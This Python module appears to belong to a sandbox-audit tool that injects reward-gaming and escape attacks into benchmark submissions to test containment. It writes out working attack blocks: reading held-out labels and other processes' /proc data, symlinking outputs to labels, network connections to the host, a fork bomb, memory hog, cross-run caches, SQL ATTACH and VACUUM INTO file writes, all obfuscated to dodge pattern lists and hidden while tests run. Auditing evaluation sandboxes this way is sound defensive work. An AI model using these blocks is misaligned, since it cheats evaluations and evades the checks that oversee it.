"""The gaming attacks ``bounty audit`` tries, as real diffs against the bounty.

Each code attack is a block of Python inserted at the top of the bounty's first
mutable ``.py`` file, so it runs when the run phase imports or runs that file.
The blocks dodge naive ``forbidden_patterns`` (``__import__`` spelled in pieces,
``getattr(os, "fo" + "rk")``) the way a real attacker would: a pattern list is a
speed bump, the sandbox is the wall, and the audit tests the wall.  Blocks report
what they achieved on stderr as ``L402AUDIT <attack> SUCCESS <what>`` lines (which
land in the sponsor's eval log); escapes are also checked from the host side.
"""

from __future__ import annotations

import base64
import json
import textwrap
from dataclasses import dataclass
from pathlib import Path

MARK = "L402AUDIT"

PRELUDE = '''\
import sys as _l402_sys
_l402_b = __builtins__ if isinstance(__builtins__, dict) else vars(__builtins__)
_l402_imp = _l402_b["__imp" + "ort__"]
_l402_os = _l402_imp("o" + "s")
_l402_env = getattr(_l402_os, "envi" + "ron")
def _l402_say(msg):
    _l402_sys.stderr.write("L402AUDIT " + msg + "\\n")
    _l402_sys.stderr.flush()
def _l402_done():
    getattr(_l402_os, "_ex" + "it")(0)
'''


@dataclass
class AttackResult:
    name: str
    description: str
    verdict: str  # contained | flagged | VULNERABLE | skipped (for the honest check: accepted | VULNERABLE)
    detail: str


@dataclass(frozen=True)
class Attack:
    name: str
    description: str
    kind: str  # code | diff
    expect: str  # what "contained" means, for the report


ATTACKS: tuple[Attack, ...] = (
    Attack("hardcode_canaries", "hard-code the public answers (canary items) into the held-out outputs", "code",
           "flagged by canaries or rejected"),
    Attack("read_labels", "read held-out labels, the scorer or other processes from the run phase", "code",
           "nothing readable"),
    Attack("leak_to_logs", "print held-out inputs into the logs", "code", "never shown to the agent"),
    Attack("edit_scorer", "patch the scorer through the diff", "diff", "diff refused"),
    Attack("edit_tests", "patch a fixed file (tests, run script) through the diff", "diff", "diff refused"),
    Attack("symlink_labels", "make the outputs symlinks to the held-out labels, for the scorer to follow",
           "code", "links refused before scoring"),
    Attack("write_outside", "write files outside the work dir (scorer, labels, host temp)", "code",
           "nothing written on the host"),
    Attack("network", "open a network connection to the host", "code", "no connection arrives"),
    Attack("fork_bomb", "fork 1000 processes", "code", "fork refused or killed"),
    Attack("memory_hog", "allocate twice the memory limit", "code", "killed or MemoryError"),
    Attack("endless_loop", "never finish", "code", "killed at the time limit"),
    Attack("broken_speedup", "be fast by skipping the work (public answers, then exit)", "code",
           "rejected by the guards / score"),
    Attack("cache_across_runs", "leave a cache for the next repeat or evaluation", "code", "no cache survives"),
)


def insert_block(source: str, block: str) -> tuple[str, int]:
    """``source`` with ``block`` inserted after any module docstring and ``__future__``
    imports (which must stay first); returns the text and the 0-based line used."""
    lines = source.splitlines(keepends=True)
    at = 0
    for i, line in enumerate(lines):
        if line.startswith("from __future__ import"):
            at = i + 1
    if at == 0 and lines and lines[0].lstrip().startswith(('"""', "'''")):
        quote = lines[0].lstrip()[:3]
        rest = lines[0].lstrip()[3:]
        if quote in rest:
            at = 1
        else:
            for j in range(1, len(lines)):
                if quote in lines[j]:
                    at = j + 1
                    break
    return "".join(lines[:at]) + block + "".join(lines[at:]), at


def make_diff(relpath: str, old: str, new: str) -> str:
    """A git-style unified diff with a single hunk covering the whole file."""
    old_lines, new_lines = old.splitlines(), new.splitlines()
    body = [f"-{line}" for line in old_lines] + [f"+{line}" for line in new_lines]
    head = (f"diff --git a/{relpath} b/{relpath}\n--- a/{relpath}\n+++ b/{relpath}\n"
            f"@@ -1,{len(old_lines)} +1,{len(new_lines)} @@\n")
    tail = "" if new.endswith("\n") else "\n\\ No newline at end of file"
    return head + "\n".join(body) + tail + "\n"


def insertion_diff(relpath: str, source: str, block: str) -> str:
    """A minimal diff that only adds ``block`` (so max_changed_lines counts the attack alone)."""
    new, at = insert_block(source, block)
    old_lines = source.splitlines()
    added = block.splitlines()
    context = old_lines[at:at + 3]
    start = at + 1
    hunk = [f"+{line}" for line in added] + [f" {line}" for line in context]
    return (f"diff --git a/{relpath} b/{relpath}\n--- a/{relpath}\n+++ b/{relpath}\n"
            f"@@ -{start},{len(context)} +{start},{len(added) + len(context)} @@\n" + "\n".join(hunk) + "\n")


def _b64(obj: object) -> str:
    return base64.b64encode(json.dumps(obj).encode()).decode()


def code_block(attack: str, ctx: dict) -> str:
    """The Python block for ``attack``; ``ctx`` carries what a determined attacker could
    know or guess (host paths, the public answers, the host's addresses).

    Like a real attacker's code it lies low while the bounty's own tests import it
    (so they pass) and strikes in the run phase.
    """
    body = textwrap.indent(textwrap.dedent(_BODIES[attack](ctx)), "    ")
    return PRELUDE + '_l402_testing = any(m in _l402_sys.modules for m in ("unittest", "pytest"))\n' \
        + "if not _l402_testing:\n" + body


def _hardcode(ctx: dict) -> str:
    return f'''\
_l402_public = _l402_imp("json").loads(_l402_imp("base64").b64decode("{_b64(ctx["public_artifacts"])}"))
def _l402_overlay():
    json = _l402_imp("json")
    out = _l402_env.get("L402_ARTIFACTS", "")
    hits = 0
    for rel, text in _l402_public.items():
        path = _l402_os.path.join(out, rel)
        if not _l402_os.path.exists(path):
            continue
        mine = open(path).read()
        try:
            pub, cur = json.loads(text), json.loads(mine)
        except ValueError:
            pub = cur = None
        if isinstance(pub, dict) and isinstance(cur, dict):
            for key in pub:
                if key in cur:
                    cur[key] = pub[key]
                    hits += 1
            open(path, "w").write(json.dumps(cur, sort_keys=True) + "\\n")
        else:
            rows = [json.loads(l) for l in text.splitlines() if l.strip().startswith("{{")]
            by_id = {{r.get("id"): r for r in rows if isinstance(r, dict) and "id" in r}}
            lines = []
            for line in mine.splitlines():
                try:
                    row = json.loads(line)
                except ValueError:
                    lines.append(line)
                    continue
                if isinstance(row, dict) and row.get("id") in by_id:
                    row = by_id[row["id"]]
                    hits += 1
                lines.append(json.dumps(row))
            open(path, "w").write("\\n".join(lines) + "\\n")
    _l402_say("hardcode_canaries replaced %d answers with public ones" % hits)
_l402_imp("atexit").register(_l402_overlay)
'''


def _read_labels(ctx: dict) -> str:
    # Paths are built, never written as open("/..."): that is what a pattern list looks for.
    return f'''\
_l402_open = _l402_b["op" + "en"]
for _p in {ctx["secret_files"]!r}:
    try:
        with _l402_open(_p, "rb") as _f:
            _f.read(64)
        _l402_say("read_labels SUCCESS read " + _p)
    except OSError:
        pass
_l402_proc = "/" + "proc"
for _pid in _l402_os.listdir(_l402_proc):
    if not _pid.isdigit() or int(_pid) == _l402_os.getpid():
        continue
    _base = _l402_proc + "/" + _pid
    try:
        _cmd = _l402_open(_base + "/cmdline", "rb").read().replace(b"\\0", b" ").decode("utf-8", "replace")
    except OSError:
        continue
    if "score" not in _cmd and "label" not in _cmd:
        continue
    try:
        _fds = _l402_os.listdir(_base + "/fd")
    except OSError:
        _fds = []
    for _fd in _fds:
        try:
            _target = _l402_os.readlink(_base + "/fd/" + _fd)
            _l402_open(_base + "/fd/" + _fd, "rb").read(16)
            _l402_say("read_labels SUCCESS opened a scorer fd: " + _target)
        except OSError:
            pass
    try:
        _l402_open(_base + "/environ", "rb").read(16)
        _l402_say("read_labels SUCCESS read the environment of " + _cmd[:80])
    except OSError:
        pass
_l402_done()
'''


def _leak(ctx: dict) -> str:
    # Prints and carries on, so the evaluation completes and its result can be inspected.
    return f'''\
_l402_open = _l402_b["op" + "en"]
_l402_dir = _l402_env.get("L402_INPUTS", "")
_l402_say("leak_to_logs {ctx["token"]} inputs: " + ", ".join(sorted(_l402_os.listdir(_l402_dir))))
for _n in sorted(_l402_os.listdir(_l402_dir))[:5]:
    _l402_say("leak_to_logs {ctx["token"]} " + _n + " "
              + repr(_l402_open(_l402_os.path.join(_l402_dir, _n), "rb").read(120)))
'''


def _symlink_labels(ctx: dict) -> str:
    # The held-out labels' host paths are guessable (the coordinator's data dir and the
    # public bounty id); the attack hopes the trusted scorer follows the links.
    return f'''\
_l402_labels = {ctx["label_files"]!r}
def _l402_link():
    out = _l402_env.get("L402_ARTIFACTS", "")
    for _root, _dirs, _files in _l402_os.walk(out):
        for _n in _files:
            _path = _l402_os.path.join(_root, _n)
            _same = [l for l in _l402_labels if _l402_os.path.basename(l) == _n]
            _target = (_same or _l402_labels)[0]
            _l402_os.remove(_path)
            _l402_os.symlink(_target, _path)
            _l402_say("symlink_labels linked " + _n + " to " + _target)
_l402_imp("atexit").register(_l402_link)
'''


def _write_outside(ctx: dict) -> str:
    return f'''\
for _p in {ctx["write_targets"]!r}:
    try:
        with open(_p, "w") as _f:
            _f.write("l402 audit")
        _l402_say("write_outside wrote " + _p)
    except OSError:
        pass
_l402_done()
'''


def _network(ctx: dict) -> str:
    return f'''\
_l402_socket = _l402_imp("soc" + "ket")
for _h in {ctx["hosts"]!r}:
    try:
        _c = _l402_socket.create_connection((_h, {ctx["port"]}), timeout=1)
        _c.sendall(b"{ctx["token"]}")
        _c.close()
        _l402_say("network SUCCESS connected to " + _h)
    except OSError:
        pass
_l402_done()
'''


def _fork_bomb(ctx: dict) -> str:
    return '''\
_l402_fork = getattr(_l402_os, "fo" + "rk")
_l402_n = 0
try:
    for _ in range(1000):
        if _l402_fork() == 0:
            _l402_imp("time").sleep(1)
            getattr(_l402_os, "_ex" + "it")(0)
        _l402_n += 1
    _l402_say("fork_bomb SUCCESS forked 1000")
except OSError:
    _l402_say("fork_bomb refused after %d" % _l402_n)
_l402_done()
'''


def _memory_hog(ctx: dict) -> str:
    return f'''\
_l402_chunks = []
for _ in range({2 * ctx["memory_mb"] // 32 + 1}):
    _c = bytearray(32 * 1024 * 1024)
    for _i in range(0, len(_c), 4096):
        _c[_i] = 1
    _l402_chunks.append(_c)
_l402_say("memory_hog SUCCESS allocated %d MB" % (32 * len(_l402_chunks)))
_l402_done()
'''


def _endless(ctx: dict) -> str:
    return '''\
while True:
    pass
'''


def _broken_speedup(ctx: dict) -> str:
    return f'''\
_l402_public = _l402_imp("json").loads(_l402_imp("base64").b64decode("{_b64(ctx["public_artifacts"])}"))
for _rel, _text in _l402_public.items():
    _path = _l402_os.path.join(_l402_env.get("L402_ARTIFACTS", ""), _rel)
    _l402_os.makedirs(_l402_os.path.dirname(_path), exist_ok=True)
    open(_path, "w").write(_text)
_l402_done()
'''


def _cache(ctx: dict) -> str:
    name = f".l402cache-{ctx['token']}"
    places = [f"{{w}}/{name}", f"/tmp/{name}", f"/var/tmp/{name}", f"/dev/shm/{name}", f"{{h}}/{name}"]
    return f'''\
_l402_places = sorted(set(_p.format(w=_l402_os.getcwd(), h=_l402_env.get("HOME", "/tmp")) for _p in {places!r}))
for _p in _l402_places:
    if _l402_os.path.exists(_p):
        _l402_say("cache_across_runs SUCCESS found " + _p)
for _p in _l402_places:
    try:
        open(_p, "w").write("cached")
    except OSError:
        pass
_l402_done()
'''


_BODIES = {"hardcode_canaries": _hardcode, "read_labels": _read_labels, "leak_to_logs": _leak,
           "symlink_labels": _symlink_labels,
           "write_outside": _write_outside, "network": _network, "fork_bomb": _fork_bomb,
           "memory_hog": _memory_hog, "endless_loop": _endless, "broken_speedup": _broken_speedup,
           "cache_across_runs": _cache}


def first_mutable_with_suffix(target: Path, globs: tuple[str, ...], suffix: str) -> str | None:
    for g in globs:
        for path in sorted(target.glob(g)):
            if path.is_file() and path.suffix == suffix:
                return path.relative_to(target).as_posix()
    return None


def first_python_mutable(target: Path, globs: tuple[str, ...]) -> str | None:
    return first_mutable_with_suffix(target, globs, ".py")


def first_fixed_file(target: Path, mutable: set[str]) -> str:
    """A file the diff may not touch, preferring code (tests, the run script) to data."""
    files = sorted((p for p in target.rglob("*") if p.is_file() and "__pycache__" not in p.parts),
                   key=lambda p: (p.suffix != ".py", "test" not in p.name, p.as_posix()))
    for path in files:
        rel = path.relative_to(target).as_posix()
        if rel not in mutable:
            return rel
    return "tests/test_audit_override.py"


# -- SQL-carried attacks ---------------------------------------------------------------
# For bounties whose mutable files are SQL run by a fixed Python driver (SQLite, with
# extensions off), the reachable attacks are files through ATTACH, runaway queries and
# memory.  Success shows as an SQLite error text in the sponsor's log or as a file on
# the host; the driver's traceback carries the error.

SQL_NOT_APPLICABLE = {
    "network": "SQLite without extensions cannot open sockets",
    "fork_bomb": "SQLite without extensions cannot start processes",
    "leak_to_logs": "the SQL never sees the input files (the fixed driver loads them)",
    "hardcode_canaries": "answers depend on each query's parameters; there is no output file to fill",
    "symlink_labels": "the outputs are written by the fixed driver, not by the SQL",
}


def _sql_quote(text: str) -> str:
    """A string expression for ``text`` with no slash in any literal (char(47) instead),
    as an attacker would write it to pass a pattern that bans paths in quotes."""
    parts = [("'" + piece.replace("'", "''") + "'") if piece else "" for piece in text.split("/")]
    return "||char(47)||".join(parts).strip("|") or "''"


def sql_block(attack: str, ctx: dict) -> str | None:
    """SQL appended to the first mutable .sql file, or None when SQL cannot carry it."""
    if attack == "read_labels":
        files = ctx["secret_files"][:1]
        return "".join(f"ATTACH DATABASE {_sql_quote(p)} AS l402_l{i};\nSELECT count(*) FROM l402_l{i}.sqlite_master;\n"
                       for i, p in enumerate(files))
    if attack == "write_outside":
        # VACUUM INTO writes a copy of the database wherever its expression points.
        return "".join(f"VACUUM INTO {_sql_quote(p)};\n" for p in ctx["write_targets"])
    if attack == "endless_loop":
        return ("WITH RECURSIVE l402_c(x) AS (SELECT 1 UNION ALL SELECT x + 1 FROM l402_c) "
                "SELECT count(*) FROM l402_c;\n")
    if attack == "memory_hog":
        return ("PRAGMA temp_store = 2;\nCREATE TEMP TABLE l402_hog AS WITH RECURSIVE l402_c(x) AS "
                f"(SELECT 1 UNION ALL SELECT x + 1 FROM l402_c LIMIT {2 * ctx['memory_mb']}) "
                "SELECT randomblob(1048576) AS b FROM l402_c;\n")
    if attack in ("cache_across_runs", "cache_across_runs:check"):
        # Two diffs: the first run leaves rows behind, the second only looks for them (the
        # bounty's tests may run the SQL twice in one sandbox, which is not a leak).
        stmts = []
        for i, place in enumerate((f"/tmp/.l402cache-{ctx['token']}", f".l402cache-{ctx['token']}")):
            stmts.append(f"ATTACH DATABASE {_sql_quote(place)} AS l402_c{i};\n")
            if attack == "cache_across_runs":
                stmts.append(f"CREATE TABLE IF NOT EXISTS l402_c{i}.t(x);\nINSERT INTO l402_c{i}.t VALUES (1);\n")
            else:
                stmts.append(f"SELECT CASE WHEN (SELECT count(*) FROM l402_c{i}.sqlite_master) > 0 "
                             "THEN abs(-9223372036854775807 - 1) END;\n")
        return "".join(stmts)
    return None


SQL_EVIDENCE = {
    "read_labels": "file is not a database",  # it opened and read the label file
    "cache_across_runs": "integer overflow",  # it found the previous run's rows
}
